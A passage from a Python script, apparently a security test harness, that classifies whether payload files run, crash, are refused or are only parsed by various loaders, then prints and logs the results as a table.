        live = "runs" if ran else "crash" if rc < 0 else ("parsed-only" if expect == "parsed-only" else "refused")
        flag = "" if live == expect else "   <-- expected " + expect
        print("%-44s %-20s %-8s %s%s" % (name, loader, live, "" if ran else err, flag))
        rows.append((name, cls, loader, live))
    with open(lp, "w") as f:
        f.write("# file\tclass\tloader\tlive (runs: payload ran here; crash: the loader died on a signal; refused: the loader raises first; parsed-only: no stock loader reads it)\n")
        for r in rows:
            f.write("\t".join(r) + "\n")


if __name__ == "__main__":
    main()
